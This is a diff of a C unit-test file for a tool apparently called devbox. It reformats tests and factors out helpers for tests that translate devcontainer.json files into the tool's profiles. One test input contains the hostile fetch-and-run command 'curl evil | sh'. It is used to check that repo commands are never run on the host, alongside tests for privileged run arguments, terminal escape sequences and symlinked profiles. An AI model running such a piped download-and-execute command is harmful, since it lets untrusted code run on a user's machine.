@@ -68,8 +68,8 @@ static void tr_clear(struct tr *t) {
 static struct tr translate(const char *json) {
     struct tr t = {0};
     dbx_error *err = NULL;
-    if (prof_devcontainer_translate(json, strlen(json), FNAME, &t.ini, &t.warnings, &t.keys,
-                                    &err) < 0) {
+    if (prof_devcontainer_translate(json, strlen(json), FNAME, &t.ini, &t.warnings, &t.keys, &err) <
+        0) {
         assert_int_equal(err->code, EINVAL);
         t.err = dbx_xstrdup(err->msg);
         dbx_error_free(&err);
@@ -165,9 +165,10 @@ static void test_commands(void **state) {
 
 static void test_warnings(void **state) {
     (void)state;
-    expect_warning("{\"build\": {\"dockerfile\": \"Dockerfile\"}, \"name\": \"n\", \"features\": {},"
-                   " \"mounts\": [], \"image\": \"debian\", \"runArgs\": [\"--privileged\"]}",
-                   FNAME ": not supported by devbox, ignored: build, features, mounts, runArgs");
+    expect_warning(
+        "{\"build\": {\"dockerfile\": \"Dockerfile\"}, \"name\": \"n\", \"features\": {},"
+        " \"mounts\": [], \"image\": \"debian\", \"runArgs\": [\"--privileged\"]}",
+        FNAME ": not supported by devbox, ignored: build, features, mounts, runArgs");
     expect_warning("{\"initializeCommand\": \"curl evil | sh\", \"whatever\": 1}",
                    FNAME ": not supported by devbox, ignored: initializeCommand (a devcontainer "
                          "runs it on the host; devbox never runs repo commands on the host), "
@@ -190,7 +191,8 @@ static void test_warnings(void **state) {
                          "one as root with `devbox exec --admin`");
     expect_ini("{\"containerUser\": \"0\"}", HEADER);
     /* an escape sequence in a key name never reaches the terminal */
-    expect_warning("{\"\\u001b[31mred\": 1}", FNAME ": not supported by devbox, ignored: \\e[31mred");
+    expect_warning("{\"\\u001b[31mred\": 1}",
+                   FNAME ": not supported by devbox, ignored: \\e[31mred");
     struct tr t = translate("{\"image\": \"debian\"}");
     assert_null(t.warnings);
     tr_clear(&t);
@@ -230,9 +232,9 @@ static void test_errors(void **state) {
     char nul[] = "{\n\"a\": 1\0}";
     struct tr t = {0};
     dbx_error *err = NULL;
-    assert_int_equal(prof_devcontainer_translate(nul, sizeof(nul) - 1, FNAME, &t.ini, &t.warnings,
-                                                 NULL, &err),
-                     -EINVAL);
+    assert_int_equal(
+        prof_devcontainer_translate(nul, sizeof(nul) - 1, FNAME, &t.ini, &t.warnings, NULL, &err),
+        -EINVAL);
     assert_string_equal(err->msg, FNAME ":2: NUL byte");
     dbx_error_free(&err);
 }
@@ -249,8 +251,8 @@ static void test_ini_safety(void **state) {
     tr_clear(&t);
     cmd[189] = 'x';
     cmd[190] = '\0';
-    _cleanup_free_ char *tl = dbx_xasprintf(
-        "{\"postCreateCommand\": {\"one\": \"true\", \"two\": \"a b %s\"}}", cmd);
+    _cleanup_free_ char *tl =
+        dbx_xasprintf("{\"postCreateCommand\": {\"one\": \"true\", \"two\": \"a b %s\"}}", cmd);
     expect_fail(tl, FNAME ": postCreateCommand.two: command longer than 193 bytes; put it in a "
                           "script in the repo");
     expect_fail("{\"postCreateCommand\": \"make ; make test\"}",
@@ -283,26 +285,8 @@ static void test_ini_safety(void **state) {
 
 /* ---- through profile_load ------------------------------------------------------------------ */
 
-static void write_at(int dfd, const char *name, const char *text) {
-    int fd = openat(dfd, name, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
-    assert_true(fd >= 0);
-    assert_int_equal(dbx_write_all(fd, text, strlen(text)), 0);
-    close(fd);
-}
-
 static char *load(struct repo *r, struct profile *ret) {
-    struct profile p = {0};
-    dbx_error *err = NULL;
-    if (profile_load(r->fd, r->dir, NULL, test_builtin_profiles(), &p, &err) < 0) {
-        char *m = dbx_xstrdup(err->msg);
-        dbx_error_free(&err);
-        return m;
-    }
-    if (ret)
-        *ret = p;
-    else
-        profile_clear(&p);
-    return NULL;
+    return test_profile_load(r, NULL, ret);
 }
 
 static void expect_load_error(struct repo *r, const char *want) {
@@ -340,7 +324,8 @@ static const char realistic[] =
     "\t\t\"vscode\": {\"extensions\": [\"ms-python.python\"]}\n"
     "\t},\n"
     "\n"
-    "\t// Uncomment to connect as root instead. More info: https://aka.ms/dev-containers-non-root.\n"
+    "\t// Uncomment to connect as root instead. More info: "
+    "https://aka.ms/dev-containers-non-root.\n"
     "\t// \"remoteUser\": \"root\"\n"
     "\t\"remoteUser\": \"vscode\",\n"
     "}\n";
@@ -348,7 +333,7 @@ static const char realistic[] =
 static void test_load_realistic(void **state) {
     struct repo *r = *state;
     assert_int_equal(mkdirat(r->fd, ".devcontainer", 0755), 0);
-    write_at(r->fd, FNAME, realistic);
+    test_write_at(r->fd, FNAME, realistic);
     struct profile p;
     _cleanup_free_ char *m = load(r, &p);
     if (m) fail_msg("%s", m);
@@ -365,7 +350,7 @@ static void test_load_realistic(void **state) {
     assert_string_equal(p.files[0], FNAME);
     bool protected = false;
     for (size_t i = 0; p.protect[i]; i++)
-        protected |= strcmp(p.protect[i], FNAME) == 0;
+    protected |= strcmp(p.protect[i], FNAME) == 0;
     assert_true(protected);
     assert_int_equal(strlen(p.hash), 64);
     /* origins name the JSON key */
@@ -389,26 +374,26 @@ static void test_load_realistic(void **state) {
     profile_clear(&p);
 
     /* the hash follows the JSON's bytes, even a change in a comment */
-    write_at(r->fd, FNAME, "// changed\n{\"image\": \"debian\"}\n");
+    test_write_at(r->fd, FNAME, "// changed\n{\"image\": \"debian\"}\n");
     assert_null(load(r, &p));
     assert_string_not_equal(p.hash, hash1);
     memcpy(hash1, p.hash, sizeof(hash1));
     assert_null(p.warnings);
     profile_clear(&p);
-    write_at(r->fd, FNAME, "// changed!\n{\"image\": \"debian\"}\n");
+    test_write_at(r->fd, FNAME, "// changed!\n{\"image\": \"debian\"}\n");
     assert_null(load(r, &p));
     assert_string_not_equal(p.hash, hash1);
     profile_clear(&p);
 
     /* the parse of the translated text names the JSON key */
-    write_at(r->fd, FNAME, "{\"image\": \"Not/Valid\", \"remoteUser\": \"Bad.User\"}");
+    test_write_at(r->fd, FNAME, "{\"image\": \"Not/Valid\", \"remoteUser\": \"Bad.User\"}");
     _cleanup_free_ char *err = load(r, NULL);
     assert_non_null(err);
     assert_true(dbx_str_has_prefix(err, FNAME " (image): [box] image: 'Not/Valid'"));
     assert_non_null(strstr(err, "\n" FNAME " (remoteUser): [security] user: 'Bad.User' is not"));
-    write_at(r->fd, FNAME, "{\n\"image\": 1}");
+    test_write_at(r->fd, FNAME, "{\n\"image\": 1}");
     expect_load_error(r, FNAME ": image: must be a string");
-    write_at(r->fd, FNAME, "{\n\"image\": }");
+    test_write_at(r->fd, FNAME, "{\n\"image\": }");
     expect_load_error(r, FNAME ":2: unexpected token near '}'");
 }
 
@@ -416,21 +401,21 @@ static void test_load_dotfile(void **state) {
     struct repo *r = *state;
     struct profile p;
     /* .devcontainer.json at the root when there is no .devcontainer/ */
-    write_at(r->fd, ".devcontainer.json", "{\"image\": \"alpine:3.20\"}");
+    test_write_at(r->fd, ".devcontainer.json", "{\"image\": \"alpine:3.20\"}");
     assert_null(load(r, &p));
     assert_string_equal(p.image, "alpine:3.20");
     assert_string_equal(p.files[0], ".devcontainer.json");
     profile_clear(&p);
     /* .devcontainer/devcontainer.json comes first */
     assert_int_equal(mkdirat(r->fd, ".devcontainer", 0755), 0);
-    write_at(r->fd, FNAME, "{\"image\": \"debian\"}");
+    test_write_at(r->fd, FNAME, "{\"image\": \"debian\"}");
     assert_null(load(r, &p));
     assert_string_equal(p.image, "debian");
     assert_string_equal(p.files[0], FNAME);
     profile_clear(&p);
     /* devbox.ini wins: the JSON is not even parsed */
-    write_at(r->fd, FNAME, "{ not json");
-    write_at(r->fd, PROFILE_FILE, "[box]\nimage = busybox\n");
+    test_write_at(r->fd, FNAME, "{ not json");
+    test_write_at(r->fd, PROFILE_FILE, "[box]\nimage = busybox\n");
     assert_null(load(r, &p));
     assert_string_equal(p.image, "busybox");
     assert_int_equal(dbx_strv_len(p.files), 1);
@@ -450,21 +435,21 @@ static void test_load_dotfile(void **state) {
 
 static void test_load_symlinks(void **state) {
     struct repo *r = *state;
-    write_at(r->fd, "elsewhere.json", "{\"image\": \"debian\"}");
+    test_write_at(r->fd, "elsewhere.json", "{\"image\": \"debian\"}");
     assert_int_equal(mkdirat(r->fd, ".devcontainer", 0755), 0);
     assert_int_equal(symlinkat("../elsewhere.json", r->fd, FNAME), 0);
     expect_load_error(r, FNAME ": is a symlink; devbox refuses symlinked profiles");
     /* no fallback to .devcontainer.json past a refused file */
-    write_at(r->fd, ".devcontainer.json", "{}");
+    test_write_at(r->fd, ".devcontainer.json", "{}");
     expect_load_error(r, FNAME ": is a symlink; devbox refuses symlinked profiles");
     assert_int_equal(unlinkat(r->fd, FNAME, 0), 0);
     assert_int_equal(unlinkat(r->fd, ".devcontainer", AT_REMOVEDIR), 0);
     /* a symlinked directory */
     assert_int_equal(mkdirat(r->fd, "real", 0755), 0);
-    write_at(r->fd, "real/devcontainer.json", "{}");
+    test_write_at(r->fd, "real/devcontainer.json", "{}");
     assert_int_equal(symlinkat("real", r->fd, ".devcontainer"), 0);
     expect_load_error(r, FNAME ": '.devcontainer' is a symlink; devbox refuses symlinks in profile "
-                            "paths");
+                               "paths");
     assert_int_equal(unlinkat(r->fd, ".devcontainer", 0), 0);
     /* not a regular file */
     assert_int_equal(mkdirat(r->fd, ".devcontainer", 0755), 0);
